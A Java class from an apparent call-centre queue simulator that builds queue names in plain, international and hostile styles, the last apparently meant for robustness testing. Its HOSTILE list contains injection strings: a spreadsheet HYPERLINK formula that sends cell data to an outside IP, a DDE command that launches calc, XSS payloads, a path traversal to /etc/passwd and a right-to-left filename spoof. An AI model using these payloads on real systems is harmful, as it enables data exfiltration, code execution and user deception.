package io.github.queuesla.simulator.organisation;

import java.util.List;

/** Unique names for queues. */
final class QueueNames {

    static final String SLOW = "Claims Review";
    static final String IDLE = "Crisis Line";

    private static final List<String> FIRST = List.of("Sales", "Support", SLOW, IDLE);
    private static final List<String> PLACES = List.of(
            "North",
            "Retail",
            "Leeds",
            "Premium",
            "Dublin",
            "Business",
            "Austin",
            "Partner",
            "Harbour",
            "Online",
            "Quebec",
            "Travel",
            "South",
            "Student",
            "Perth",
            "Fleet",
            "Oslo",
            "Energy",
            "Cork",
            "Mobile");
    private static final List<String> TRADES = List.of(
            "Billing",
            "Technical Help",
            "Orders",
            "Returns",
            "Retention",
            "Bookings",
            "Payments",
            "Deliveries",
            "Switchboard",
            "Warranty",
            "Onboarding",
            "Complaints");
    private static final List<String> INTERNATIONAL = List.of(
            "Kündigungen Süd",
            "Größere Schäden",
            "Łódź – Obsługa",
            "Εξυπηρέτηση",
            "客户服务",
            "カスタマーサポート",
            "Réclamations 2ᵉ niveau",
            "Поддержка",
            "고객 지원",
            "VIP 🚀");
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"Sales\")",
            "\u001b[31mRed\u001b[0m\u001b]0;title\u0007",
            "<img src=x onerror=alert(1)>",
            "admin\u202egnp.exe",
            "</script><script>alert(1)</script>",
            "+1-555-0100",
            "@SUM(A1:A9)",
            "\tTabbed\r\nTwo lines",
            "＝cmd|' /C calc'!A0",
            "../../etc/passwd",
            "Zero\u200bwidth\u2066isolate",
            "\"quoted\", comma; semi");

    private QueueNames() {}

    static String of(int index, NameStyle style) {
        if (index < 2 || (style != NameStyle.HOSTILE && index < FIRST.size())) {
            return FIRST.get(index);
        }
        List<String> special = switch (style) {
            case PLAIN -> List.of();
            case INTERNATIONAL -> INTERNATIONAL;
            case HOSTILE -> HOSTILE;
        };
        int number = style == NameStyle.HOSTILE ? index - 2 : index - FIRST.size();
        return number < special.size() ? special.get(number) : ordinary(number - special.size());
    }

    private static String ordinary(int number) {
        String town = PLACES.get(number % PLACES.size());
        String trade = TRADES.get(number / PLACES.size() % TRADES.size());
        int round = number / (PLACES.size() * TRADES.size());
        return round == 0 ? town + " " + trade : town + " " + trade + " " + (round + 1);
    }
}
